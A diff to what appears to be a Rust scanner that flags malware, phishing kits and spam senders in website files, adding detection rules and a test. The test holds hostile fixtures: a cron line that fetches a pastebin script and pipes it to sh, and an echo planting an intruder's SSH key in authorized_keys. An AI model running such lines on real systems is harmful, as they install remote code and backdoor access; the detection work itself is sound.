@@ -147,6 +147,9 @@ pub enum Why {
     /// A phishing kit's settings file: nothing but the mailbox the victims' data is sent to
     /// (`$Receive_email = "x@protonmail.com";`).
     KitMailbox,
+    /// A program that mails a list of addresses from threads, through a proxy or under a
+    /// made-up mail program's name: a spam sender.
+    BulkMailer,
     /// Written to be unreadable: PHP's own names (its globals, the server's keys, decoders)
     /// spelled in escape codes, or every text kept in an encrypted table, so that no search
     /// finds them.
@@ -320,6 +323,7 @@ impl Why {
             Why::PhishingBotFilter => "phishing_bot_filter",
             Why::ChatBotKey => "chat_bot_key",
             Why::KitMailbox => "kit_mailbox",
+            Why::BulkMailer => "bulk_mailer",
             Why::ObfuscatedNames => "obfuscated_names",
             Why::ShellObject => "shell_object",
             Why::StartsProgram => "starts_program",
@@ -811,11 +815,12 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         let spam = spam::gambling_page(text).map(|at| taint::Sink { why: Why::GamblingSpam, danger: Danger::High, at });
         // (Or a phishing kit's step page asking for a card and its PIN: its sending is
         // elsewhere.)
-        let step = shapes::asks_card_and_bank_secret(text).map(|at| taint::Sink {
-            why: Why::PhishingPage,
-            danger: Danger::High,
-            at,
-        });
+        // (Or one keeping the card's security code in the session for the next step.)
+        let step = shapes::asks_card_and_bank_secret(text)
+            .or_else(|| shapes::keeps_card_code(text))
+            // (Or a lure dressed as the visitor's own mail provider.)
+            .or_else(|| shapes::dressed_as_visitors_provider(text))
+            .map(|at| taint::Sink { why: Why::PhishingPage, danger: Danger::High, at });
         // (Or a drainer's logger keeping a wallet's secret words.)
         let drained = shapes::keeps_wallet_secret(text).map(|at| taint::Sink {
             why: Why::CredentialCollector,
@@ -1018,7 +1023,8 @@ pub fn judge(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<
 /// report.
 fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
     let php_inside = || php_tag_in_head(text).is_some() || php_before_last(name);
-    if (is_text_note(name) || named_as_data(name)) && program_line(text) && !php_inside() {
+    let commands = || program_line(text) || (is_text_note(name) && programs::commands_note(text));
+    if (is_text_note(name) || named_as_data(name)) && commands() && !php_inside() {
         // A program kept as text or under a picture's name.
         let mut hits: Vec<Hit> = programs::signs(text)
             .into_iter()
@@ -1092,7 +1098,7 @@ fn settings_hits(name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
 pub fn worth_reading(name: &str, head: &[u8]) -> bool {
     // (A PHP ending before the data one, `x.php.jpg`: read whole, its code may come late.)
     if is_text_note(name) {
-        return program_line(head) || php_tag_in_head(head).is_some();
+        return program_line(head) || php_tag_in_head(head).is_some() || programs::commands_note_head(head);
     }
     // (A picture that starts as a program is one: `byr.jpg`, a Perl bot.)
     let code = if named_as_data(name) {
@@ -2144,6 +2150,25 @@ mod tests {
         }
         // A robots file's comments end in its rules, not a program.
         assert!(!worth_reading("robots.txt", b"# robots.txt\n# for all\nUser-agent: *\n"));
+    }
+
+    #[test]
+    fn a_cron_line_or_an_ssh_key_kept_as_text_is_read() {
+        // fresh140's `crontab.txt` (a miner's line put back every 15 minutes) and fresh141's
+        // `My_ssh.txt` (an `echo` of the intruder's key into `authorized_keys`).
+        let cron = "*/15 * * * * (curl -fsSL https://pastebin.com/raw/wDBa7jCQ||wget -q -O- https://pastebin.com/raw/wDBa7jCQ)|sh\n";
+        assert!(worth_reading("crontab.txt", cron.as_bytes()));
+        assert_eq!(whys("crontab.txt", cron), [Why::DownloadsProgram]);
+        let key = format!(
+            "echo \"\"\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ{} root@kali\"\"\" > authorized_keys\n",
+            "x".repeat(600)
+        );
+        assert!(worth_reading("My_ssh.txt", key.as_bytes()));
+        assert_eq!(whys("My_ssh.txt", &key), [Why::AddsSshKey]);
+        // A cron line that only fetches a feed, a key alone, a note about cron: nothing.
+        assert!(whys("crontab.txt", "0 3 * * * wget -q -O /tmp/feed.xml https://example.org/feed\n").is_empty());
+        assert!(whys("id_rsa.txt", &format!("ssh-rsa AAAAB3Nza{} me@laptop\n", "y".repeat(300))).is_empty());
+        assert!(!worth_reading("notes.txt", b"Run this every 5 minutes from cron.\n"));
     }
 
     #[test]
